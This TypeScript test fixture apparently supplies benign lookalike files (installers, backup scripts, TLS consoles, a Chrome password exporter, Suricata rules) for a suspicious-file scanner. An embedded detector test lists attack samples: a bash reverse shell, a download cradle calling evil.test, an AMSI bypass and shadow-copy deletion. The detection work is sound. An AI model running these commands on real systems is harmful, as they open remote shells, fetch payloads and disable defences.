// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of shells
// Honest files beside those of `suspects/attacks.ts`: single steps of the same attacks, for what they are meant for.
import { writeLnk } from '../write-lnk.ts'
import { excelWorkbook } from '../write-office.ts'
import { file, type Lookalike } from './lookalike.ts'

export const attacks: readonly Lookalike[] = [
  file(
    'honest-install.sh',
    '#!/bin/sh\n# Installer for devbox-cli. Usage: curl -fsSL https://files.test/install.sh | sh\nset -eu\nREPO="devbox-cli/devbox"\nmain() {\n  need_cmd curl; need_cmd tar; need_cmd uname\n  os=$(uname -s | tr \'[:upper:]\' \'[:lower:]\'); arch=$(uname -m)\n  case "$arch" in x86_64) arch=amd64 ;; aarch64|arm64) arch=arm64 ;; armv7l) arch=armv7 ;; mips) arch=mips ;; *) err "unsupported arch $arch" ;; esac\n  tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT\n  url="https://github.com/$REPO/releases/latest/download/devbox_${os}_${arch}.tar.gz"\n  curl -fsSL "$url" -o "$tmp/d.tgz" || wget -qO "$tmp/d.tgz" "$url"\n  curl -fsSL "$url.sha256" -o "$tmp/d.sha"\n  (cd "$tmp" && sha256sum -c d.sha)\n  tar -xzf "$tmp/d.tgz" -C "$tmp"\n  chmod +x "$tmp/devbox"\n  sudo mv "$tmp/devbox" /usr/local/bin/devbox\n  if ! grep -q devbox "$HOME/.bashrc"; then echo \'eval "$(devbox shellenv)"\' >> "$HOME/.bashrc"; fi\n}\nneed_cmd() { command -v "$1" >/dev/null 2>&1 || err "need $1"; }\nerr() { echo "error: $1" >&2; exit 1; }\nmain "$@"\n',
  ),
  file(
    'honest-backup.ps1',
    '<#\n.SYNOPSIS Nightly backup of user profiles to the file server; removes sets older than 30 days.\n#>\nparam([string]$Target = \'\\\\filesrv01\\backup$\', [int]$Keep = 30)\n$stamp = Get-Date -Format yyyyMMdd\n$work = Join-Path $env:TEMP "bk_$stamp"\nNew-Item -ItemType Directory -Path $work -Force | Out-Null\nGet-ChildItem C:\\Users -Directory | ForEach-Object {\n  robocopy "$($_.FullName)\\Documents" "$work\\$($_.Name)\\Documents" /MIR /R:1 /W:1 /NFL /NDL\n  Copy-Item "$($_.FullName)\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Bookmarks" "$work\\$($_.Name)" -ErrorAction SilentlyContinue\n}\n$key = Get-Content C:\\backup\\key.bin -Encoding Byte\n$aes = [Security.Cryptography.Aes]::Create(); $aes.Key = $key\nCompress-Archive -Path "$work\\*" -DestinationPath "$work.zip" -Force\n$in = [IO.File]::ReadAllBytes("$work.zip")\n[IO.File]::WriteAllBytes("$Target\\$stamp.zip.aes", $aes.IV + $aes.CreateEncryptor().TransformFinalBlock($in,0,$in.Length))\nGet-ChildItem $Target -Filter *.aes | Where-Object LastWriteTime -lt (Get-Date).AddDays(-$Keep) | Remove-Item\nRemove-Item $work,"$work.zip" -Recurse -Force\nSend-MailMessage -From backup@files.test -To admin@files.test -Subject "Backup $stamp done" -SmtpServer mail.contoso-it.de\n',
  ),
  file(
    'honest-get-python.cmd',
    '@echo off\nset PY=3.12.4\nbitsadmin /transfer py /download /priority normal https://www.python.org/ftp/python/%PY%/python-%PY%-amd64.exe "%TEMP%\\python-%PY%.exe"\ncertutil -hashfile "%TEMP%\\python-%PY%.exe" SHA256\n"%TEMP%\\python-%PY%.exe" /quiet InstallAllUsers=1 PrependPath=1\ndel "%TEMP%\\python-%PY%.exe"\n',
  ),
  file(
    'honest-Invoke-HealthCheck.psm1',
    "function Get-RemoteScript { param([uri]$Uri,[string]$Sha256)\n  $f = New-TemporaryFile; Invoke-WebRequest -Uri $Uri -OutFile $f -UseBasicParsing\n  if ((Get-FileHash $f).Hash -ne $Sha256) { throw 'hash' }\n  & ([scriptblock]::Create((Get-Content $f -Raw)))\n}\nfunction ConvertTo-Secret { param([string]$s) [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($s)) }\nfunction ConvertFrom-Secret { param([string]$s) [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($s)) }\nfunction Get-Idle { Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern bool GetLastInputInfo(ref LASTINPUTINFO p); public struct LASTINPUTINFO { public uint cbSize; public uint dwTime; }' -Name Idle -Namespace W -PassThru }\nExport-ModuleMember -Function *\n",
  ),
  file(
    'honest-chrome-backup.py',
    "#!/usr/bin/env python3\n\"\"\"Export my own saved Chrome passwords into KeePass CSV (runs locally, asks first).\"\"\"\nimport argparse, base64, csv, json, os, shutil, sqlite3, sys, tempfile\nfrom pathlib import Path\ndef master_key(local_state: Path) -> bytes:\n    import win32crypt\n    enc = base64.b64decode(json.loads(local_state.read_text('utf8'))['os_crypt']['encrypted_key'])\n    return win32crypt.CryptUnprotectData(enc[5:], None, None, None, 0)[1]\ndef rows(profile: Path):\n    with tempfile.TemporaryDirectory() as t:\n        db = shutil.copy(profile / 'Login Data', t)\n        yield from sqlite3.connect(db).execute('select origin_url, username_value, password_value from logins')\ndef main():\n    ap = argparse.ArgumentParser(description=__doc__)\n    ap.add_argument('--out', required=True, type=Path)\n    ns = ap.parse_args()\n    if input('This writes passwords in clear text. Continue? [y/N] ').lower() != 'y': sys.exit(1)\n    base = Path(os.environ['LOCALAPPDATA']) / 'Google/Chrome/User Data'\n    key = master_key(base / 'Local State')\n    from Crypto.Cipher import AES\n    with ns.out.open('w', newline='') as f:\n        w = csv.writer(f); w.writerow(['url', 'user', 'password'])\n        for url, user, blob in rows(base / 'Default'):\n            w.writerow([url, user, AES.new(key, AES.MODE_GCM, blob[3:15]).decrypt(blob[15:-16]).decode()])\nmain()\n",
  ),
  file(
    'honest-test_detector.py',
    "import unittest\nfrom detector import scan\nSAMPLES = {\n    'encoded powershell': 'powershell -nop -w hidden -enc SQBFAFgA',\n    'download cradle': \"IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a.ps1')\",\n    'reverse shell': 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',\n    'shadow copies': 'vssadmin delete shadows /all /quiet',\n    'amsi': \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\",\n    'certutil': 'certutil -urlcache -split -f http://evil.test/x.exe x.exe',\n}\nclass DetectorTest(unittest.TestCase):\n    def test_hits(self):\n        for name, text in SAMPLES.items():\n            with self.subTest(name): self.assertTrue(scan(text))\n    def test_misses(self):\n        for text in ('powershell -File backup.ps1', 'certutil -hashfile x.iso SHA256'): self.assertFalse(scan(text))\nif __name__ == '__main__': unittest.main()\n",
  ),
  file(
    'honest-tools.hta',
    '<html><head><title>Helpdesk tools</title><HTA:APPLICATION ID="hd" APPLICATIONNAME="Helpdesk" SINGLEINSTANCE="yes" SCROLL="no"/>\n<script language="VBScript">\nSub Ping() : Set s = CreateObject("WScript.Shell") : s.Run "cmd /k ping " & host.value : End Sub\nSub Remote() : Set s = CreateObject("WScript.Shell") : s.Run "mstsc /v:" & host.value : End Sub\nSub Unlock() : Set s = CreateObject("WScript.Shell") : s.Run "powershell -NoExit -Command Unlock-ADAccount " & user.value : End Sub\n</script></head><body><input id="host"><button onclick="Ping">Ping</button><button onclick="Remote">RDP</button><br><input id="user"><button onclick="Unlock">Unlock</button></body></html>\n',
  ),
  file(
    'honest-fernet_tool.py',
    "\"\"\"Encrypt or decrypt a directory with a key file. Keep the key safe: without it the files are lost.\"\"\"\nimport sys, os\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\ndef main(mode, folder, keyfile):\n    k = Path(keyfile)\n    if mode == 'newkey': k.write_bytes(Fernet.generate_key()); return\n    f = Fernet(k.read_bytes())\n    for p in Path(folder).rglob('*'):\n        if not p.is_file(): continue\n        if mode == 'encrypt' and p.suffix != '.enc': p.with_suffix(p.suffix + '.enc').write_bytes(f.encrypt(p.read_bytes())); p.unlink()\n        if mode == 'decrypt' and p.suffix == '.enc': p.with_suffix('').write_bytes(f.decrypt(p.read_bytes()))\nif __name__ == '__main__': main(*sys.argv[1:4])\n",
  ),
  file(
    'honest-proxy.go',
    'package main\n\nimport (\n\t"io"\n\t"log"\n\t"net"\n\t"os/exec"\n)\n\n// ssh-agent bridge: forwards a local TCP port to a child\'s standard streams, for WSL.\nfunc main() {\n\tl, err := net.Listen("tcp", "127.0.0.1:10022")\n\tif err != nil { log.Fatal(err) }\n\tfor {\n\t\tc, err := l.Accept()\n\t\tif err != nil { continue }\n\t\tgo func() {\n\t\t\tdefer c.Close()\n\t\t\tcmd := exec.Command("ssh", "-W", "bastion:22", "jump")\n\t\t\tin, _ := cmd.StdinPipe(); out, _ := cmd.StdoutPipe()\n\t\t\tif cmd.Start() != nil { return }\n\t\t\tgo io.Copy(in, c)\n\t\t\tio.Copy(c, out)\n\t\t\tcmd.Wait()\n\t\t}()\n\t}\n}\n',
  ),
  file(
    'honest-inetd.c',
    '#include <sys/socket.h>\n#include <netinet/in.h>\n#include <unistd.h>\n#include <stdlib.h>\n/* Minimal inetd: runs the given program for each client on the given port. */\nint main(int argc, char **argv) {\n  int s = socket(AF_INET, SOCK_STREAM, 0), c;\n  struct sockaddr_in a = {0}; a.sin_family = AF_INET; a.sin_port = htons(atoi(argv[1])); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);\n  if (bind(s, (void*)&a, sizeof a) || listen(s, 8)) return 1;\n  while ((c = accept(s, 0, 0)) >= 0) {\n    if (fork() == 0) { dup2(c, 0); dup2(c, 1); dup2(c, 2); close(s); execvp(argv[2], argv + 2); _exit(127); }\n    close(c);\n  }\n}\n',
  ),
  file(
    'honest-contact.php',
    "<?php\ndeclare(strict_types=1);\nsession_start();\nif ($_SERVER['REQUEST_METHOD'] === 'POST' && hash_equals($_SESSION['csrf'] ?? '', $_POST['csrf'] ?? '')) {\n    $name = trim(strip_tags($_POST['name'] ?? '')); $mail = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n    $text = trim($_POST['message'] ?? '');\n    if ($mail !== false && $text !== '') {\n        $body = \"Name: $name\\nMail: $mail\\nIP: {$_SERVER['REMOTE_ADDR']}\\n\\n$text\";\n        mail('info@files.test', 'Kontaktformular', $body, \"From: web@files.test\\r\\nReply-To: $mail\");\n        header('Location: /danke.html'); exit;\n    }\n}\n$_SESSION['csrf'] = bin2hex(random_bytes(16));\n",
  ),
  file(
    'honest-remote_shell_server.py',
    "\"\"\"A tiny supervised console for the lab: clients connect over TLS with a certificate, every command is logged.\"\"\"\nimport asyncio, logging, ssl, subprocess\nlog = logging.getLogger('console')\nALLOWED = {'uptime', 'df', 'free', 'systemctl'}\nasync def handle(r, w):\n    peer = w.get_extra_info('peername')\n    while line := (await r.readline()).decode().strip():\n        cmd = line.split()\n        log.info('%s ran %s', peer, cmd)\n        if cmd[0] not in ALLOWED: w.write(b'denied\\n'); continue\n        p = await asyncio.create_subprocess_exec(*cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n        w.write((await p.communicate())[0]); await w.drain()\nasync def main():\n    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH, cafile='/etc/lab/ca.pem'); ctx.verify_mode = ssl.CERT_REQUIRED\n    ctx.load_cert_chain('/etc/lab/srv.pem')\n    async with await asyncio.start_server(handle, '0.0.0.0', 8443, ssl=ctx) as s: await s.serve_forever()\nasyncio.run(main())\n",
  ),
  file(
    'honest-clean-logs.sh',
    "#!/bin/bash\n# Frees disk space on build agents\nset -euo pipefail\njournalctl --vacuum-time=7d\nfind /var/log -name '*.gz' -mtime +14 -delete\nfind /tmp -user jenkins -mtime +2 -exec rm -rf {} +\ndocker system prune -af --filter until=72h\n: > /var/log/jenkins/access.log\npkill -f 'chrome --headless' || true\nsysctl -w vm.drop_caches=3\n",
  ),
  file(
    'honest-export.html',
    "<!DOCTYPE html><html><head><title>Table editor</title></head><body><table id=\"t\"></table><button id=\"dl\">Download CSV</button><button id=\"x\">Excel</button>\n<script>\nfunction save(name,type,data){const b=new Blob([data],{type});const a=document.createElement('a');a.href=URL.createObjectURL(b);a.download=name;document.body.appendChild(a);a.click();a.remove();URL.revokeObjectURL(a.href);}\nconst tpl=atob(\"UEsDBBQAAAAIAAAAIQAAAAAAAAAAAAAAAAATAAAAW0NvbnRlbnRfVHlwZXNdLnhtbA==\");\ndocument.getElementById('dl').onclick=()=>save('table.csv','text/csv',[...document.querySelectorAll('tr')].map(r=>[...r.cells].map(c=>c.innerText).join(';')).join('\\n'));\ndocument.getElementById('x').onclick=()=>save('table.xlsx','application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',Uint8Array.from(tpl,c=>c.charCodeAt(0)));\n</script></body></html>\n",
  ),
  file(
    'honest-register.php',
    "<?php\nrequire 'vendor/autoload.php';\nsession_start();\n$email = filter_input(INPUT_POST, 'email', FILTER_VALIDATE_EMAIL); $pass = $_POST['password'] ?? '';\nif (!$email || strlen($pass) < 10) { http_response_code(422); exit('invalid'); }\n$pdo = new PDO(getenv('DSN'));\n$pdo->prepare('INSERT INTO users (email, hash, ip) VALUES (?,?,?)')->execute([$email, password_hash($pass, PASSWORD_ARGON2ID), $_SERVER['REMOTE_ADDR']]);\n$token = bin2hex(random_bytes(16));\nmail($email, 'Willkommen', \"Bitte bestätigen Sie Ihre Adresse: https://files.test/confirm?t=$token\", 'From: noreply@files.test');\nfile_put_contents('/var/log/app/register.log', date('c') . \" $email\\n\", FILE_APPEND);\nheader('Location: https://files.test/willkommen');\n",
  ),
  file(
    'honest-deploy-hook.php',
    "<?php\n// GitHub webhook: pulls the site after a push; signature is verified\n$body = file_get_contents('php://input');\n$sig = 'sha256=' . hash_hmac('sha256', $body, getenv('HOOK_SECRET'));\nif (!hash_equals($sig, $_SERVER['HTTP_X_HUB_SIGNATURE_256'] ?? '')) { http_response_code(403); exit; }\n$ref = json_decode($body, true)['ref'] ?? '';\nif ($ref === 'refs/heads/main') { chdir('/var/www/site'); exec('git pull --ff-only 2>&1 && composer install --no-dev 2>&1', $out, $rc); error_log(implode(\"\\n\", $out)); echo $rc === 0 ? 'ok' : 'failed'; }\n",
  ),
  file(
    'honest-thumbs.php',
    "<?php\n$file = basename($_GET['f'] ?? '');\n$w = (int)($_GET['w'] ?? 200);\n$src = __DIR__ . '/img/' . $file; $dst = sys_get_temp_dir() . \"/t_{$w}_$file\";\nif (!is_file($dst)) { exec('convert ' . escapeshellarg($src) . ' -resize ' . $w . ' ' . escapeshellarg($dst)); }\nheader('Content-Type: image/jpeg'); readfile($dst);\n",
  ),
  file(
    'honest-dapp.html',
    '<!DOCTYPE html><html><head><title>Token bridge</title></head><body><input id="to" placeholder="0x…"><input id="amt"><button id="send">Send</button><p>Donate: <code>bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</code> <button id="cp">Copy</button></p>\n<script type="module">\ncp.onclick=()=>navigator.clipboard.writeText(\'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\');\nsend.onclick=async()=>{if(!/^0x[a-fA-F0-9]{40}$/.test(to.value))return alert(\'address?\');const [from]=await ethereum.request({method:\'eth_requestAccounts\'});await ethereum.request({method:\'eth_sendTransaction\',params:[{from,to:to.value,value:\'0x\'+BigInt(amt.value).toString(16)}]});};\n</script></body></html>\n',
  ),
  file(
    'honest-suricata.rules',
    'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET MALWARE Mirai Variant Checkin"; flow:established,to_server; http.uri; content:"/bins/"; pcre:"/\\/bins\\/\\w+\\.(?:mips|mpsl|arm7|x86)$/"; sid:2031001; rev:2;)\nalert tcp any any -> any any (msg:"Reverse shell bash"; content:"bash -i >& /dev/tcp/"; sid:2031002;)\nalert http any any -> any any (msg:"PowerShell cradle"; http.response_body; content:"IEX(New-Object Net.WebClient).DownloadString"; sid:2031003;)\n',
  ),
  file(
    'honest-uninstall-miner.sh',
    "#!/bin/bash\n# Incident response: removes the known miner from infected hosts (ticket SEC-2214)\nset -u\nsystemctl stop cron\nfor p in xmrig kdevtmpfsi kinsing; do pkill -9 \"$p\" && echo \"killed $p\"; done\nrm -f /tmp/kdevtmpfsi /var/tmp/kinsing /etc/cron.d/zzh\ncrontab -u root -l | grep -v 'k.sh' | crontab -u root -\nsed -i '/203.0.113.7/d' /etc/hosts\ngrep -q libsystem.so /etc/ld.so.preload && : > /etc/ld.so.preload\nsystemctl start cron\nfind / -xdev -newermt '2024-05-01' -perm -u+s -type f 2>/dev/null > /root/ir-suid.txt\n",
  ),
  file(
    'honest-k8s-install.sh',
    '#!/bin/bash\n# Installs kubectl and helm on a jump host\nset -euo pipefail\nVER=$(curl -L -s https://dl.k8s.io/release/stable.txt)\ncurl -LO "https://dl.k8s.io/release/${VER}/bin/linux/amd64/kubectl"\ncurl -LO "https://dl.k8s.io/${VER}/bin/linux/amd64/kubectl.sha256"\necho "$(cat kubectl.sha256)  kubectl" | sha256sum --check\nchmod +x kubectl && mv kubectl /usr/local/bin/\ncurl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash\nmkdir -p ~/.kube && cp /etc/kubernetes/admin.conf ~/.kube/config\n',
  ),
  file(
    'honest-Deploy-Agent.ps1',
    "#Requires -RunAsAdministrator\n<# Installs the endpoint agent on all members of an OU. #>\n[CmdletBinding()] param([Parameter(Mandatory)][string]$OU, [pscredential]$Credential)\n$msi = '\\\\deploy01\\packages\\agent-7.2.msi'\nGet-ADComputer -SearchBase $OU -Filter * | ForEach-Object -ThrottleLimit 8 -Parallel {\n  Invoke-Command -ComputerName $_.Name -Credential $using:Credential -ScriptBlock {\n    Start-Process msiexec.exe -ArgumentList '/i', $using:msi, '/qn', 'TOKEN=3f2a' -Wait -WindowStyle Hidden\n    $a = New-ScheduledTaskAction -Execute 'C:\\Program Files\\Agent\\check.exe' -Argument '--daily'\n    Register-ScheduledTask -TaskName 'Agent daily check' -Action $a -Trigger (New-ScheduledTaskTrigger -Daily -At 3am) -User SYSTEM -Force\n    Add-MpPreference -ExclusionProcess 'C:\\Program Files\\Agent\\agent.exe'\n  }\n}\n",
  ),
  file(
    'honest-profile.ps1',
    '# Microsoft.PowerShell_profile.ps1\nImport-Module posh-git\nSet-PSReadLineOption -PredictionSource History\nfunction which($n) { (Get-Command $n).Source }\nfunction weather { Invoke-RestMethod "https://weather.lan/Hamburg?0" }\nfunction b64d($s) { [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)) }\nfunction Update-All { winget upgrade --all; scoop update *; iex "& { $(irm https://aka.ms/install-powershell.ps1) } -UseMSI" }\nInvoke-Expression (&starship init powershell)\noh-my-posh init pwsh | Invoke-Expression\n',
  ),
  file(
    'honest-clean-temp.cmd',
    '@echo off\nrem frees space on terminal servers, runs weekly\ndel /f /s /q "%TEMP%\\*.tmp" >nul 2>&1\nfor /d %%u in (C:\\Users\\*) do del /f /q "%%u\\AppData\\Local\\Temp\\*.*" >nul 2>&1\nrd /s /q C:\\Windows\\SoftwareDistribution\\Download\ncleanmgr /sagerun:1\nvssadmin resize shadowstorage /for=C: /on=C: /maxsize=10GB\npowercfg -h off\nwevtutil epl System "\\\\logs01\\archive\\%COMPUTERNAME%.evtx"\n',
  ),
  file(
    'honest-jit.c',
    '#include <sys/mman.h>\n#include <string.h>\n#include <stdio.h>\n/* Toy JIT: compiles x + y, to show how mmap and mprotect work together. */\ntypedef int (*fn)(int, int);\nint main(void) {\n  unsigned char code[] = { 0x8d, 0x04, 0x37, 0xc3 }; /* lea eax, [rdi+rsi]; ret */\n  void *m = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\n  memcpy(m, code, sizeof code); mprotect(m, 4096, PROT_READ | PROT_EXEC);\n  printf("%d\\n", ((fn)m)(2, 3));\n}\n',
  ),
  file(
    'honest-sshd_tunnel.go',
    'package main\n\nimport (\n\t"crypto/tls"\n\t"io"\n\t"log"\n\t"net"\n\t"os"\n\t"os/exec"\n)\n\n// Terminal of the appliance over mutual TLS: the appliance listens, operators connect with a client certificate.\nfunc main() {\n\tcert, err := tls.LoadX509KeyPair("srv.pem", "srv.key")\n\tif err != nil { log.Fatal(err) }\n\tl, _ := tls.Listen("tcp", ":7022", &tls.Config{Certificates: []tls.Certificate{cert}, ClientAuth: tls.RequireAndVerifyClientCert})\n\tfor {\n\t\tc, err := l.Accept()\n\t\tif err != nil { continue }\n\t\tgo func(c net.Conn) {\n\t\t\tdefer c.Close()\n\t\t\tcmd := exec.Command("/bin/bash", "-l")\n\t\t\tcmd.Stdin = c; cmd.Stdout = c; cmd.Stderr = c\n\t\t\tcmd.Env = append(os.Environ(), "TERM=xterm")\n\t\t\tif err := cmd.Run(); err != nil { io.WriteString(c, err.Error()) }\n\t\t}(c)\n\t}\n}\n',
  ),
  file(
    'honest-analytics.js',
    '!function(w,d){var q=w._stat=w._stat||[],s="https://files.test/p.php";function send(e){var b=JSON.stringify({u:d.location.href,r:d.referrer,e:e,w:screen.width,t:Date.now()});navigator.sendBeacon?navigator.sendBeacon(s,b):fetch(s,{method:"POST",body:b,keepalive:!0})}\nd.addEventListener("submit",function(e){send({k:"form",id:e.target.id,fields:e.target.elements.length})});d.addEventListener("click",function(e){var a=e.target.closest("a[data-stat]");a&&send({k:"click",n:a.dataset.stat})});q.push=send;send({k:"view"})}(window,document);\n',
  ),
  file(
    'honest-version_check.js',
    "// Asks the forge for the newest release, and updates the checkout where it is older\nconst { execSync } = require('child_process'); const axios = require('axios');\nconst pattern = /^v(\\d+)\\.(\\d+)/;\naxios.get('https://forge.test/api/tool/releases/latest').then((res) => {\n  const found = pattern.exec(res.data.tag_name);\n  if (found !== null && Number(found[1]) > 3) execSync('git pull --ff-only');\n});\n",
  ),
  file(
    'honest-runner.py',
    "\"\"\"Minimal CI runner: polls the server for jobs and runs the step scripts in a container.\"\"\"\nimport json, os, subprocess, time, urllib.request\nSERVER = os.environ['RUNNER_SERVER']; TOKEN = os.environ['RUNNER_TOKEN']\ndef call(path, data=None):\n    req = urllib.request.Request(SERVER + path, data=json.dumps(data).encode() if data else None, headers={'Authorization': 'Bearer ' + TOKEN})\n    return json.load(urllib.request.urlopen(req))\nwhile True:\n    job = call('/jobs/next')\n    if not job:\n        time.sleep(5); continue\n    steps = job['steps']\n    for i, step in enumerate(steps):\n        p = subprocess.run(['docker', 'run', '--rm', '-v', f\"{job['workdir']}:/w\", step['image'], 'sh', '-ec', step['script']], capture_output=True, text=True)\n        call(f\"/jobs/{job['id']}/steps/{i}\", {'code': p.returncode, 'log': p.stdout + p.stderr})\n",
  ),
  file(
    'honest-vault_export.js',
    "// Exports a vault to an encrypted archive and uploads it to the user's own bucket\nconst { createCipheriv, randomBytes, scryptSync } = require('node:crypto'); const { readdirSync, readFileSync, statSync } = require('node:fs'); const { join } = require('node:path'); const os = require('node:os');\nconst { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');\nfunction* walk(d) { for (const n of readdirSync(d)) { const p = join(d, n); statSync(p).isDirectory() ? yield* walk(p) : yield p; } }\nmodule.exports = async ({ dir, passphrase, bucket }) => {\n  const salt = randomBytes(16), key = scryptSync(passphrase, salt, 32), s3 = new S3Client({});\n  for (const p of walk(dir)) { const iv = randomBytes(12), c = createCipheriv('aes-256-gcm', key, iv); const body = Buffer.concat([salt, iv, c.update(readFileSync(p)), c.final(), c.getAuthTag()]); await s3.send(new PutObjectCommand({ Bucket: bucket, Key: `${os.hostname()}/${p}.enc`, Body: body })); }\n};\n",
  ),
  file(
    'honest-ocr-screens.ps1',
    'Add-Type -AssemblyName System.Drawing,System.Windows.Forms\n$b = [System.Windows.Forms.Screen]::PrimaryScreen.Bounds\n$bmp = New-Object System.Drawing.Bitmap $b.Width, $b.Height\n$g = [System.Drawing.Graphics]::FromImage($bmp)\n$g.CopyFromScreen($b.Location, [System.Drawing.Point]::Empty, $b.Size)\n$dark = 0; for ($x = 0; $x -lt $b.Width; $x += 20) { for ($y = 0; $y -lt $b.Height; $y += 20) { if ($bmp.GetPixel($x, $y).GetBrightness() -lt 0.2) { $dark++ } } }\n"dark samples: $dark" | Out-File "$env:USERPROFILE\\Documents\\display-test.txt"\n$bmp.Save("$env:USERPROFILE\\Documents\\display-test.png")\n',
  ),
  file(
    'honest-update-tool.cmd',
    '@echo off\nsetlocal\nset "URL=https://files.test/tools/kalk/setup.exe"\nset "DST=%TEMP%\\kalk-setup.exe"\necho Kalkulation wird aktualisiert ...\ncurl -fsS -o "%DST%" "%URL%" || (echo Download fehlgeschlagen & pause & exit /b 1)\n"%DST%" /VERYSILENT /NORESTART\ndel "%DST%"\n',
  ),
  file(
    'honest-cross-release.sh',
    '#!/bin/sh\n# Builds and uploads static binaries for every platform\nset -e\nfor arch in amd64 arm64 armv7 mips mipsle ppc64le s390x; do\n  GOOS=linux GOARCH=$arch go build -o dist/agent-$arch ./cmd/agent\n  chmod +x dist/agent-$arch\n  sha256sum dist/agent-$arch >> dist/SHA256SUMS\ndone\ngh release upload "$TAG" dist/*\ncurl -s -X POST -H "Authorization: Bearer $TOKEN" -F "file=@dist/SHA256SUMS" https://files.test/upload\n',
  ),
  {
    name: 'honest-logon.lnk',
    bytes: writeLnk({
      target: 'C:\\Windows\\System32\\cmd.exe',
      arguments: '/c "\\\\srv01\\netlogon\\update.cmd"',
      showCommand: 7,
    }),
  },
  {
    name: 'honest-rates.xlsm',
    bytes: excelWorkbook(
      {},
      {
        macros: [
          {
            name: 'ThisWorkbook',
            source:
              'Private Sub Workbook_Open()\n Dim h As Object\n Set h = CreateObject("MSXML2.XMLHTTP")\n h.Open "GET", "https://rates.test/daily.xml", False\n h.send\n Sheets("Rates").Range("A1").Value = h.responseText\n Shell "explorer.exe " & Environ("USERPROFILE"), vbNormalFocus\nEnd Sub',
          },
        ],
      },
    ),
  },
]
